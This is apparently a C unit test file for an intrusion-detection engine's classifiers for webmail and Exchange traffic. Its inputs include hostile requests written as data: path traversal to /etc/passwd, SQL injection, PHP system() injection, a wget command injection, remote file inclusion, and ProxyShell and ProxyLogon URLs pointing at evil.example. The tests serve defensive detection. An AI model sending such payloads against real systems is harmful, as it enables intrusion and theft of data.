/* test_detect.c - the stateless request and SQL classifiers. */
#include "config.h"
#include "tap.h"
#include "src/engine/detect.h"

static bs_str S(const char *s) { return bs_str_make(s, strlen(s)); }

int main(void)
{
	/* an old or backup copy of a table does not stand for the live one */
	ok(bs_detect_sql_table_is_copy(S("SELECT Account, Email FROM Abook_old")), "Abook_old is a copy");
	ok(bs_detect_sql_table_is_copy(S("select * from `atmail`.`users_bak`")), "users_bak is a copy");
	ok(bs_detect_sql_table_is_copy(S("SELECT * FROM contacts_2006")), "a dated table is a copy");
	ok(bs_detect_sql_table_is_copy(S("SELECT * FROM archive_users WHERE 1")), "archive_users is a copy");
	ok(!bs_detect_sql_table_is_copy(S("SELECT Account, Email FROM Abook")), "Abook is live");
	ok(!bs_detect_sql_table_is_copy(S("SELECT * FROM folders")), "\"folders\" holds \"old\" only inside a word");
	ok(!bs_detect_sql_table_is_copy(S("SELECT * FROM Users WHERE id=2007")), "digits after WHERE are not the table's");
	/* exploit requests: positives */
	ok(bs_detect_exploit(S("/mail/index.php?lang=../../../../etc/passwd"), BS_STR_NULL) & BS_EXPLOIT_TRAVERSAL, "traversal");
	ok(bs_detect_exploit(S("/mail/index.php?lang=%2e%2e%2f%2e%2e%2fetc%2fpasswd"), BS_STR_NULL) & BS_EXPLOIT_TRAVERSAL, "encoded traversal");
	ok(bs_detect_exploit(S("/a?x=%252e%252e%252fetc"), BS_STR_NULL) & BS_EXPLOIT_TRAVERSAL, "double-encoded traversal");
	ok(bs_detect_exploit(S("/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id"), BS_STR_NULL) & BS_EXPLOIT_INCLUSION, "remote file inclusion");
	ok(bs_detect_exploit(S("/index.php?page=php://filter/convert.base64-encode/resource=config"), BS_STR_NULL) & BS_EXPLOIT_INCLUSION, "php wrapper");
	ok(bs_detect_exploit(S("/login.php?user=admin'%20OR%201=1--"), BS_STR_NULL) & BS_EXPLOIT_SQLI, "sqli or 1=1");
	ok(bs_detect_exploit(S("/item?id=1+UNION+SELECT+password+FROM+users"), BS_STR_NULL) & BS_EXPLOIT_SQLI, "union select");
	ok(bs_detect_exploit(S("/x.php?a=<?php system($_GET[c]); ?>"), BS_STR_NULL) & BS_EXPLOIT_CODE, "php code injection");
	ok(bs_detect_exploit(S("/cgi-bin/test?q=;wget http://x/y"), BS_STR_NULL) & BS_EXPLOIT_CODE, "command injection");
	ok(bs_detect_exploit(S("/mail/compose.php"), S("shell.php")) & BS_EXPLOIT_UPLOAD, "script upload");
	ok(bs_detect_exploit(S("/mail/compose.php"), S("IMG.PHTML")) & BS_EXPLOIT_UPLOAD, "script upload, upper case");
	/* Exchange: ProxyShell, ProxyLogon, the ECP web shell drop */
	ok(bs_detect_exploit(S("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyShell autodiscover.json?@");
	ok(bs_detect_exploit(S("/autodiscover/autodiscover.json?a=x&Email=autodiscover/autodiscover.json%253F@evil.example&Protocol=Powershell"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyShell, double-encoded");
	ok(bs_detect_exploit(S("/ecp/y.js"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyLogon /ecp/y.js");
	ok(bs_detect_exploit(S("/owa/auth/x.js"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyLogon /owa/auth/x.js");
	ok(bs_detect_exploit(S("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=abc"), BS_STR_NULL) & BS_EXPLOIT_UPLOAD, "ECP OAB reset");
	ok(bs_detect_exploit(S("/ecp/x.ashx?path=%5C%5C127.0.0.1%5Cc$%5Cinetpub%5Cwwwroot%5Caspnet_client%5Cshell.aspx"), BS_STR_NULL) & BS_EXPLOIT_UPLOAD, ".aspx named through ECP");
	is_str(bs_exploit_kind_name(BS_EXPLOIT_SSRF), "server-side request forgery", "SSRF kind name");
	is_int(bs_detect_exploit(S("/autodiscover/autodiscover.xml"), BS_STR_NULL), 0, "plain autodiscover");
	is_int(bs_detect_exploit(S("/ecp/default.aspx"), BS_STR_NULL), 0, "ECP home");
	is_int(bs_detect_exploit(S("/owa/auth/15.2.1118/scripts/premium/owa.js"), BS_STR_NULL), 0, "OWA's own scripts");
	is_int(bs_detect_exploit(S("/owa/auth/logon.aspx?url=https%3a%2f%2fmail%2fowa%2f&reason=0"), BS_STR_NULL), 0, "OWA logon page");
	/* web shell directories of Exchange */
	ok(bs_detect_shell_dir(S("/aspnet_client/system_web/x1.aspx")), "script in /aspnet_client/");
	ok(bs_detect_shell_dir(S("/aspnet_client/discover.ASHX")), ".ashx in /aspnet_client/");
	ok(bs_detect_shell_dir(S("/owa/auth/errorEE.aspx")), "errorEE.aspx in /owa/auth/");
	ok(bs_detect_shell_dir(S("/owa/auth/Current/themes/resources/x.asmx")), ".asmx under /owa/auth/");
	ok(!bs_detect_shell_dir(S("/owa/auth/logon.aspx")), "OWA's logon page");
	ok(!bs_detect_shell_dir(S("/owa/auth/errorFE.aspx")), "OWA's error page");
	ok(!bs_detect_shell_dir(S("/aspnet_client/system_web/4_0_30319/WebUIValidation.js")), "a client script");
	ok(!bs_detect_shell_dir(S("/EWS/Exchange.asmx")), "EWS");
	ok(!bs_detect_shell_dir(S("/owa/")), "OWA");
	/* negatives */
	is_int(bs_detect_exploit(S("/mail/showmail.php?Folder=Inbox"), BS_STR_NULL), 0, "normal page");
	is_int(bs_detect_exploit(S("/mail/reademail.php?id=123&Folder=Sent%20Items"), BS_STR_NULL), 0, "normal page with encoding");
	is_int(bs_detect_exploit(S("/mail/compose.php"), S("holiday.jpg")), 0, "picture upload");
	is_int(bs_detect_exploit(S("/mail/login.php?url=%2Fmail%2Fshowmail.php"), BS_STR_NULL), 0, "redirect parameter");
	is_int(bs_detect_exploit(S("/docs/release-notes.txt"), BS_STR_NULL), 0, "a dotted file name");

	/* command-like requests */
	ok(bs_detect_cmdlike(S("/mail/tmp/.cache.php?cmd=id")), "cmd=id");
	ok(bs_detect_cmdlike(S("/mail/tmp/.cache.php?cmd=ls%20-la")), "cmd=ls -la");
	ok(bs_detect_cmdlike(S("/x.php?c=uname+-a")), "c=uname -a");
	ok(bs_detect_cmdlike(S("/x.php?q=cat%20/etc/passwd")), "value is a command");
	ok(bs_detect_cmdlike(S("/x.php?exec=whatever")), "exec= parameter");
	ok(!bs_detect_cmdlike(S("/mail/showmail.php?Folder=Inbox")), "not: folder");
	ok(!bs_detect_cmdlike(S("/mail/reademail.php?id=12")), "not: id=12");
	ok(!bs_detect_cmdlike(S("/mail/search.php?q=identity")), "not: word starting with id");
	ok(!bs_detect_cmdlike(S("/mail/index.php")), "not: no query");

	/* paths */
	ok(bs_detect_script_path(S("/mail/tmp/.cache.php")), "php script");
	ok(bs_detect_script_path(S("/cgi-bin/x.cgi")), "cgi script");
	ok(!bs_detect_script_path(S("/mail/js/atmail.js")), "not: js");
	ok(bs_detect_script_path(S("/UP/SHELL.PHP")), "upper-case extension");
	ok(bs_detect_script_path(S("/a.b/c.aspx")), "a dot in a directory name, then the extension");
	ok(!bs_detect_script_path(S("/x.php.txt")), "not: .php before the last extension");
	ok(!bs_detect_script_path(S("/cgi/php")), "not: no dot");
	ok(bs_detect_script_path(S(".sh")), "the extension alone");
	ok(!bs_detect_script_path(S("/x.phpx")), "not: a longer extension");
	is_bs(bs_uri_path(S("/mail/a.php?x=1#f")), "/mail/a.php", "path of uri");
	is_bs(bs_uri_path(S("http://host.example/mail/a.php?x=1")), "/mail/a.php", "path of absolute uri");
	is_bs(bs_uri_path(S("/plain")), "/plain", "path without query");

	/* SQL */
	ok(bs_detect_sql_unfiltered(S("SELECT Account FROM Users")), "select without where");
	ok(bs_detect_sql_unfiltered(S("select Account, Email from Abook")), "lower case select without where");
	ok(bs_detect_sql_unfiltered(S("SELECT * FROM Abook WHERE Email LIKE '%@%'")), "where without equality");
	ok(bs_detect_sql_unfiltered(S("SELECT * FROM Users WHERE 1=1")), "where 1=1 is not a filter on a literal... tautology");
	ok(!bs_detect_sql_unfiltered(S("SELECT * FROM Users WHERE Account='alice@example.net'")), "per-user filter");
	ok(!bs_detect_sql_unfiltered(S("SELECT Account, Email FROM Abook WHERE Account = 'bigbook@example.net'")), "per-user filter with spaces");
	ok(!bs_detect_sql_unfiltered(S("SELECT * FROM Users WHERE id=?")), "placeholder filter");
	ok(!bs_detect_sql_unfiltered(S("INSERT INTO Log_SendMail (Account) VALUES ('a@b.c')")), "insert is not a read");
	ok(!bs_detect_sql_unfiltered(S("SELECT NOW()")), "select without from");
	ok(!bs_detect_sql_unfiltered(S("SELECT * FROM Users LIMIT 1")), "limit 1");
	ok(bs_detect_sql_addressbook(S("SELECT Email FROM Abook_old")), "abook table");
	ok(bs_detect_sql_addressbook(S("select * from contacts")), "contacts table");
	ok(!bs_detect_sql_addressbook(S("SELECT Account FROM Users")), "users is not an address book");
	ok(bs_detect_sql_shape(S("SELECT * FROM Users WHERE Account='a@x.org'")) ==
	   bs_detect_sql_shape(S("select *  from users where account = 'bob@y.net'")) ||
	   bs_detect_sql_shape(S("SELECT * FROM Users WHERE Account='a@x.org'")) ==
	   bs_detect_sql_shape(S("SELECT * FROM Users WHERE Account='bob@y.net'")), "same shape, other literal");
	ok(bs_detect_sql_shape(S("SELECT * FROM Users WHERE id=12")) == bs_detect_sql_shape(S("SELECT * FROM Users WHERE id=9999")), "same shape, other number");
	ok(bs_detect_sql_shape(S("SELECT Account FROM Users")) != bs_detect_sql_shape(S("SELECT Email FROM Abook")), "other shape");

	/* URL hosts */
	char h[256];
	bs_url_host(S("http://Update.Flash-Player.example.cn/install.exe"), h, sizeof h);
	is_str(h, "update.flash-player.example.cn", "host of http url");
	bs_url_host(S("//cdn.widgets.example.com/a.js"), h, sizeof h);
	is_str(h, "cdn.widgets.example.com", "host of protocol-relative url");
	bs_url_host(S("https://user:pw@h.example:8080/x"), h, sizeof h);
	is_str(h, "h.example", "host with userinfo and port");
	is_int(bs_url_host(S("/mail/js/atmail.js"), h, sizeof h), 0, "relative url has no host");
	/* empty borrowed strings ({NULL, 0}) are "" to every classifier */
	is_int(bs_detect_exploit(BS_STR_NULL, BS_STR_NULL), 0, "null uri: no exploit");
	ok(!bs_detect_cmdlike(BS_STR_NULL), "null uri: not command-like");
	ok(!bs_detect_script_path(BS_STR_NULL), "null path: not a script");
	is_int(bs_uri_path(BS_STR_NULL).n, 0, "null uri: empty path");
	ok(!bs_detect_sql_unfiltered(BS_STR_NULL) && !bs_detect_sql_addressbook(BS_STR_NULL), "null sql");
	is_int(bs_url_host(BS_STR_NULL, h, sizeof h), 0, "null url: no host");
	return tap_done();
}
